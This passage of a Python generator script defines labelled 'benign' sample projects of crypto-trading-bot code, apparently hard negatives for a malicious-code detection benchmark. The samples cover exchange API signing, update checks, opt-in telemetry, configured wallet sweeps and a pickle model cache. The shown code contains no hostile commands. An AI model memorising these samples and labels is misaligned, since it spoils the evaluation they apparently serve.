project("b02_hummingbot_conf_reader", "benign", "hummingbot docs: reading conf_client.yml", {
    "scripts/report.py": '''import glob
import yaml


def strategies():
    out = []
    for path in glob.glob("conf/strategies/*.yml"):
        with open(path) as fh:
            out.append(yaml.safe_load(fh).get("strategy"))
    return out


print(strategies())
''',
})

project("b03_pypi_update_check", "benign", "common practice: version check against PyPI JSON", {
    "gridbot/__init__.py": "__version__ = '1.2.0'\n",
    "gridbot/update.py": '''import threading
import requests
from . import __version__


def _check():
    try:
        latest = requests.get("https://pypi.org/pypi/gridbot/json", timeout=5).json()["info"]["version"]
        if latest != __version__:
            print(f"gridbot {latest} is available (you have {__version__})")
    except Exception:
        pass


def check_async():
    threading.Thread(target=_check, daemon=True).start()
''',
})

project("b04_kraken_b64_hmac", "benign", "Kraken REST docs: base64 secret for HMAC", {
    "kraken_bot/auth.py": '''import base64
import hashlib
import hmac
import os
import time
import urllib.parse
import requests

API = "https://api.kraken.com"


def private(path, data):
    data["nonce"] = str(int(time.time() * 1000))
    post = urllib.parse.urlencode(data)
    message = path.encode() + hashlib.sha256((data["nonce"] + post).encode()).digest()
    sig = hmac.new(base64.b64decode(os.environ["KRAKEN_SECRET"]), message, hashlib.sha512)
    headers = {"API-Key": os.environ["KRAKEN_KEY"], "API-Sign": base64.b64encode(sig.digest()).decode()}
    return requests.post(API + path, headers=headers, data=data, timeout=10).json()
''',
})

project("b05_okx_gzip_frames", "benign", "OKX/Huobi websocket docs: compressed frames", {
    "feeds/ws.py": '''import gzip
import json
import zlib
import websockets


async def stream(url):
    async with websockets.connect(url) as ws:
        async for frame in ws:
            if isinstance(frame, bytes):
                try:
                    frame = gzip.decompress(frame)
                except OSError:
                    frame = zlib.decompress(frame, -zlib.MAX_WBITS)
            yield json.loads(frame)
''',
})

project("b06_plugin_loader", "benign", "common practice: strategy plugin loader", {
    "engine/plugins.py": '''import importlib
import pkgutil
import strategies


def load_all():
    found = {}
    for info in pkgutil.iter_modules(strategies.__path__):
        mod = importlib.import_module(f"strategies.{info.name}")
        found[info.name] = getattr(mod, "Strategy")
    return found
''',
    "strategies/__init__.py": "",
})

project("b07_setup_build_ext_version", "benign", "setuptools docs: build_ext and version file", {
    "setup.py": '''import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext

about = {}
exec(open("fastta/version.py").read(), about)


class MakeExt(build_ext):
    def run(self):
        subprocess.check_call(["make", "-C", "native"])
        super().run()


setup(name="fastta", version=about["__version__"], cmdclass={"build_ext": MakeExt})
''',
    "fastta/version.py": "__version__ = '0.9.1'\n",
})

project("b08_profit_sweep_configured", "benign", "user-configured cold-wallet sweep", {
    "sweep/run.py": '''import json
import os
import ccxt

cfg = json.load(open(os.path.expanduser("~/.sweep.json")))
ex = ccxt.kucoin({"apiKey": os.environ["KC_KEY"], "secret": os.environ["KC_SECRET"],
                  "password": os.environ["KC_PASS"]})
bal = ex.fetch_balance()["free"].get("USDT", 0)
if bal > cfg["keep"]:
    ex.withdraw("USDT", bal - cfg["keep"], cfg["cold_wallet"], None, {"network": cfg["network"]})
''',
})

project("b09_web3_send_to_cli_arg", "benign", "web3.py docs: sending a transaction", {
    "wallet/send.py": '''import argparse
import os
from web3 import Web3


def main():
    p = argparse.ArgumentParser()
    p.add_argument("to")
    p.add_argument("eth", type=float)
    a = p.parse_args()
    w3 = Web3(Web3.HTTPProvider(os.environ["RPC_URL"]))
    acct = w3.eth.account.from_key(os.environ["PRIVATE_KEY"])
    tx = {"to": Web3.to_checksum_address(a.to), "value": w3.to_wei(a.eth, "ether"), "gas": 21000,
          "gasPrice": w3.eth.gas_price, "nonce": w3.eth.get_transaction_count(acct.address), "chainId": 1}
    signed = acct.sign_transaction(tx)
    print(w3.eth.send_raw_transaction(signed.raw_transaction).hex())


if __name__ == "__main__":
    main()
''',
})

project("b10_clipboard_checksum_tool", "benign", "address checksum helper", {
    "tools/clip.py": '''import re
import pyperclip
from web3 import Web3

ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")


def checksum_clipboard():
    text = pyperclip.paste().strip()
    if ETH.match(text):
        pyperclip.copy(Web3.to_checksum_address(text))
        return True
    return False
''',
})

project("b11_usage_telemetry", "benign", "opt-in anonymous usage telemetry", {
    "arbot/telemetry.py": '''import os
import platform
import uuid
import requests

from . import __version__


def ping():
    if os.environ.get("ARBOT_TELEMETRY", "1") == "0":
        return
    try:
        requests.post("https://telemetry.arbot.dev/v1/start", json={
            "id": str(uuid.uuid5(uuid.NAMESPACE_DNS, platform.node())), "version": __version__,
            "python": platform.python_version(), "os": platform.system()}, timeout=2)
    except requests.RequestException:
        pass
''',
    "arbot/__init__.py": "__version__ = '0.5.0'\n",
})

project("b12_sentry_errors", "benign", "Sentry SDK docs", {
    "bot/errors.py": '''import os
import sentry_sdk


def init():
    dsn = os.environ.get("SENTRY_DSN")
    if dsn:
        sentry_sdk.init(dsn=dsn, traces_sample_rate=0.1, environment=os.environ.get("ENV", "prod"))
''',
})

project("b13_ccxt_describe_extend", "benign", "ccxt manual: extending an exchange class", {
    "venues/mybinance.py": '''import ccxt


class MyBinance(ccxt.binance):
    def describe(self):
        return self.deep_extend(super().describe(), {
            "options": {"defaultType": "future", "adjustForTimeDifference": True},
        })

    def sign(self, path, api="public", method="GET", params={}, headers=None, body=None):
        request = super().sign(path, api, method, params, headers, body)
        request["headers"] = dict(request.get("headers") or {}, **{"X-Client": "mybot"})
        return request
''',
})

project("b14_discord_pnl_from_env", "benign", "Discord webhook docs: PnL notifications", {
    "notify/discord.py": '''import os
import requests


def post_pnl(pnl, balance):
    url = os.environ.get("DISCORD_WEBHOOK_URL")
    if not url:
        return
    requests.post(url, json={"content": f"PnL today: {pnl:+.2f} USDT, balance {balance:.2f}"}, timeout=5)
''',
})

project("b15_dotenv_to_ccxt", "benign", "python-dotenv docs with ccxt", {
    "app/exchange.py": '''import logging
import ccxt
from dotenv import dotenv_values

log = logging.getLogger(__name__)
env = dotenv_values(".env")
log.info("loaded %d settings", len(env))
exchange = ccxt.okx({"apiKey": env["OKX_KEY"], "secret": env["OKX_SECRET"], "password": env["OKX_PASSPHRASE"]})
''',
})

project("b16_local_backup_zip", "benign", "local backup of user_data", {
    "tools/backup.py": '''import datetime
import shutil


def backup():
    stamp = datetime.date.today().isoformat()
    return shutil.make_archive(f"backups/user_data-{stamp}", "zip", "user_data")
''',
})

project("b17_solana_keypair_rpc", "benign", "solana-py docs: load keypair, send transfer", {
    "solbot/pay.py": '''import json
import os
from solana.rpc.api import Client
from solana.transaction import Transaction
from solders.keypair import Keypair
from solders.pubkey import Pubkey
from solders.system_program import TransferParams, transfer


def pay(to, lamports):
    with open(os.path.expanduser("~/.config/solana/id.json")) as fh:
        kp = Keypair.from_bytes(bytes(json.load(fh)))
    client = Client("https://api.mainnet-beta.solana.com")
    ix = transfer(TransferParams(from_pubkey=kp.pubkey(), to_pubkey=Pubkey.from_string(to), lamports=lamports))
    return client.send_transaction(Transaction().add(ix), kp)
''',
})

project("b18_keystore_infura", "benign", "web3.py docs: keystore decrypt", {
    "ethbot/signer.py": '''import getpass
import json
from web3 import Web3

w3 = Web3(Web3.HTTPProvider("https://mainnet.infura.io/v3/abc123"))


def load(path):
    with open(path) as fh:
        keystore = json.load(fh)
    return w3.eth.account.decrypt(keystore, getpass.getpass("keystore password: "))
''',
})

project("b19_model_pickle_cache", "benign", "scikit-learn docs: persisting a model", {
    "ml/cache.py": '''import os
import pickle


def load_model(path="models/lstm.pkl"):
    if os.path.exists(path):
        with open(path, "rb") as fh:
            return pickle.loads(fh.read())
    return None
''',
})

project("b20_license_check", "benign", "commercial bot license verification", {
    "probot/license.py": '''import hashlib
import platform
import requests


def verify(license_key):
    machine = hashlib.sha256(platform.node().encode()).hexdigest()
    r = requests.post("https://api.probot-trading.com/v1/license/verify",
                      json={"license": license_key, "machine": machine}, timeout=10)
    return r.ok and r.json().get("valid", False)
''',
})

project("b21_conftest_mocks", "benign", "pytest docs: fixtures and monkeypatch", {
    "tests/conftest.py": '''import ccxt
import pytest
from unittest.mock import MagicMock


@pytest.fixture(autouse=True)
def fake_env(monkeypatch):
    monkeypatch.setenv("BINANCE_KEY", "test")
    monkeypatch.setenv("BINANCE_SECRET", "test")


@pytest.fixture
def exchange(monkeypatch):
    ex = ccxt.binance()
    monkeypatch.setattr(ex, "fetch_balance", MagicMock(return_value={"free": {"USDT": 100}}))
    ex.create_order = MagicMock(return_value={"id": "1"})
    return ex
''',
})

project("b22_atexit_shutdown_notice", "benign", "graceful shutdown with a Telegram notice", {
    "bot/lifecycle.py": '''import atexit
import os
import requests


def _bye(exchange):
    exchange.cancel_all_orders("BTC/USDT")
    token, chat = os.environ["TG_TOKEN"], os.environ["TG_CHAT"]
    requests.post(f"https://api.telegram.org/bot{token}/sendMessage",
                  json={"chat_id": chat, "text": f"{exchange.id} bot stopped"}, timeout=5)


def install(exchange):
    atexit.register(_bye, exchange)
''',
})

project("b23_own_account_transfer_schedule", "benign", "ccxt manual: transfer between own accounts", {
    "rebalance/jobs.py": '''import schedule


def top_up_futures(exchange, minimum=200):
    free = exchange.fetch_balance({"type": "future"})["free"].get("USDT", 0)
    if free < minimum:
        exchange.transfer("USDT", minimum - free, "spot", "future")


def register(exchange):
    schedule.every(1).hours.do(top_up_futures, exchange)
''',
})

project("b24_dns_health_check", "benign", "network health check", {
    "ops/health.py": '''import socket

HOSTS = ["api.binance.com", "api.bybit.com", "www.okx.com"]


def dns_ok():
    bad = []
    for h in HOSTS:
        try:
            socket.gethostbyname(h)
        except socket.gaierror:
            bad.append(h)
    return not bad
''',
})

project("b25_bz2_dataset_cache", "benign", "compressed OHLCV cache", {
    "data/cache.py": '''import bz2
import json


def load(path):
    with open(path, "rb") as fh:
        return json.loads(bz2.decompress(fh.read()))
''',
})

project("b26_ccxt_wrapper_class", "benign", "a thin ccxt wrapper package", {
    "easyccxt/__init__.py": "from .core import make_exchange\n",
    "easyccxt/core.py": '''import ccxt
import logging

log = logging.getLogger(__name__)


def make_exchange(name, key, secret):
    ex = getattr(ccxt, name)({"apiKey": key, "secret": secret, "enableRateLimit": True})
    log.info("created %s client (key ...%s)", ex.id, key[-4:])
    return ex
''',
})

_ = (bz2, codecs)
